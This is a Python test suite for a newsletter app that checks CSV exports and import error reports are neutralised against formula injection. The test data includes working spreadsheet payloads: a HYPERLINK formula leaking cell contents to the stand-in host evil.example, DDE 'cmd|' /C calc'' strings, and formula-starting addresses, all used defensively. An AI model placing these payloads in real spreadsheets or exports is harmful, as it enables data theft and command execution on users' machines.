"""CSV injection: no cell of a CSV we hand out starts a formula, whoever chose its text."""

import csv
import io
import re
import time

from hypothesis import example, given, settings
from hypothesis import strategies as st

from newsletters.services.core.addresses import normalize_email
from newsletters.services.core.csvsafe import restore_cell, safe_cell
from newsletters.services.readers import imports
from tests.support.admin import action_token
from tests.support.reader import add_demo_newsletters, sign_up
from tests.support.readers import add_active_readers

# Valid addresses, exactly as normalize_email keeps them, that a spreadsheet would run.
ADDRESSES = [
    "=1+1@example.com",
    "=cmd|calc@example.com",
    "+reader@example.com",
    "-reader@example.com",
    "-2+3@example.com",
    "|pipe@example.com",
    "%percent@example.com",
    "'=quoted@example.com",  # already starts with a quote: must come back with it
    "''-twice@example.com",
    "'plain@example.com",  # a quote before a harmless character is the address's own
    "plain@example.com",
]
# Checked here, not with the helper: a broken helper must not mark its own work.
STARTS_A_FORMULA = re.compile("[ ]*[=+\\-@\t\r\0|%＝＋－＠]")
SPLITS_A_CELL = re.compile("[;,\t\r\n]")


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run, read with any of the usual separators."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if any(STARTS_A_FORMULA.match(piece) for piece in SPLITS_A_CELL.split(cell))
    ]


@given(st.text(max_size=40) | st.text(alphabet="=+-@\t\r\0|%＝＋－＠;,\n' ab", max_size=12))
@settings(max_examples=500, deadline=None)
@example("'=x")
@example("x;=cmd|' /C calc'!A0")
@example("a\t\t=1+1")
def test_a_neutralised_cell_starts_no_formula_and_reads_back_as_it_was(text):
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe_cell(text)])
    assert formula_cells(buffer.getvalue()) == []
    assert restore_cell(safe_cell(text)) == text


def test_the_addresses_are_valid_as_they_are(app):
    with app.app_context():
        assert [normalize_email(address) for address in ADDRESSES] == ADDRESSES


def test_the_admin_export_starts_no_formula_and_keeps_every_address(app, owner):
    add_demo_newsletters(app)
    add_active_readers(app, {address: ["the-weekly"] for address in ADDRESSES})
    sign_up(app.test_client(), "=2+5@example.com", "ai-digest")  # pending, through the form
    response = owner.post(
        "/admin/subscribers/export.csv",
        data={"csrf_token": action_token(owner, "/admin/subscribers")},
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    body = response.get_data(as_text=True)
    assert formula_cells(body) == []
    rows = list(csv.DictReader(io.StringIO(body)))
    assert sorted(restore_cell(r["email"]) for r in rows) == sorted(
        [*ADDRESSES, "=2+5@example.com"]
    )
    assert {restore_cell(r["email"]): r["pending"] for r in rows}["=2+5@example.com"] == (
        "ai-digest"
    )


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "x;=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x\t=1+1",
    "-2+3",
    "+1 (555) 0100",
    "＝SUM(1+1)",
]


def _wait_checked(app, key: str) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:  # the check runs on a background thread
        with app.app_context():
            if imports.job_by_uuid(key).status.value in ("checked", "failed"):
                return
        time.sleep(0.05)
    raise AssertionError("the import was not checked")


def test_the_import_error_report_starts_no_formula(app, owner):
    add_demo_newsletters(app)
    buffer = io.StringIO()
    rows = csv.writer(buffer)
    rows.writerow(["email", "newsletters"])
    rows.writerows([payload, "the-weekly"] for payload in PAYLOADS)
    rows.writerow(["reader@example.com", "=evil;+evil2"])
    response = owner.post(
        "/admin/imports/new",
        data={
            "csrf_token": action_token(owner, "/admin/imports/new"),
            "file": (io.BytesIO(buffer.getvalue().encode()), "readers.csv"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    key = response.location.rsplit("/", 1)[1]
    _wait_checked(app, key)
    report = owner.get(f"/admin/imports/{key}/errors.csv")
    assert report.status_code == 200 and report.mimetype == "text/csv"
    body = report.get_data(as_text=True)
    assert formula_cells(body) == []
    lines = list(csv.reader(io.StringIO(body)))
    # Still says what the file held, once the quotes are taken off.
    assert [restore_cell(line[1]) for line in lines[1:-1]] == PAYLOADS
    assert restore_cell(lines[-1][2]) == "unknown newsletter: =evil, +evil2"
